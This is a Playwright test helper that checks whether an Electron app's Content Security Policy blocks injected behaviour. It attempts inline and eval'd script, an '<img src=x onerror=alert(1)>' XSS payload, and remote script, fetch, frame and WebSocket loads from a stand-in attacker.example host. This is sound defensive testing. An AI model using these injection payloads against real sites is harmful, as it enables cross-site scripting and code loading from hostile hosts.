import { expect, type Page } from '@playwright/test'
import type { App } from './app.ts'

/**
 * Tries what a script that got into the page would try, one after the other. Answers the directives of the policy that
 * said no to it; none means that nothing stopped it. (That it did not work proves nothing: there may be no network.)
 */
export function violationsOf(page: Page): Promise<Record<string, string[]>> {
  return page.evaluate(async () => {
    const elsewhere = 'https://attacker.example/x'
    const add = (tag: 'script' | 'img' | 'iframe' | 'style', change: (element: HTMLElement) => void) => {
      const element = document.createElement(tag)
      change(element)
      document.body.append(element)
    }
    const tries: Record<string, () => unknown> = {
      'inline script': () => add('script', (script) => script.append('window.hostile = true')),
      // oxlint-disable-next-line no-implied-eval, typescript/no-implied-eval -- that it is stopped is the point
      eval: () => new Function('window.hostile = true')(),
      'remote script': () => add('script', (script) => script.setAttribute('src', elsewhere)),
      markup: () => Reflect.set(document.createElement('p'), 'innerHTML', '<img src=x onerror=alert(1)>'),
      'remote image': () => add('img', (image) => image.setAttribute('src', elsewhere)),
      'remote frame': () => add('iframe', (frame) => frame.setAttribute('src', elsewhere)),
      'inline style': () => add('style', (style) => style.append('body { outline: 7px solid red }')),
      'remote fetch': () => fetch(elsewhere),
      'own fetch': () => fetch('index.html'),
      socket: () => new WebSocket('wss://attacker.example/'),
      worker: () => new Worker('worker.js'),
    }
    const found: Record<string, string[]> = {}
    for (const [name, run] of Object.entries(tries)) {
      const stops: string[] = (found[name] = [])
      await new Promise<void>((resolve) => {
        const note = ({ effectiveDirective }: SecurityPolicyViolationEvent) => {
          stops.push(effectiveDirective)
          resolve()
        }
        document.addEventListener('securitypolicyviolation', note)
        setTimeout(resolve, 2000)
        // In a task of its own: what the test driver evaluates is itself exempt from the policy.
        setTimeout(() => {
          try {
            void Promise.resolve(run()).catch(() => {})
          } catch {
            // The policy said no by throwing; its event tells which part of it.
          }
        })
      })
    }
    if (Reflect.get(window, 'hostile') === true) found['hostile script'] = []
    return found
  })
}

/** Tries to go there and to open it in a window. Answers what the analyst was asked; the answer given is "Cancel". */
export async function attemptToLeave({ electron, page }: App, url: string): Promise<string[]> {
  await electron.evaluate(({ dialog }) => {
    const asked: string[] = []
    Reflect.set(globalThis, 'asked', asked)
    const answer = (options: { message: string }) => {
      asked.push(options.message)
      return Promise.resolve({ response: 1, checkboxChecked: false })
    }
    Reflect.set(dialog, 'showMessageBox', answer)
  })
  const asked = () => electron.evaluate(() => Reflect.get(globalThis, 'asked') as string[])
  const count = url.startsWith('https:') ? 2 : 0
  expect(await page.evaluate((target) => window.open(target), url)).toBe(null)
  await page.evaluate((target) => {
    location.href = target
  }, url)
  await expect.poll(async () => (await asked()).length).toBe(count)
  return asked()
}
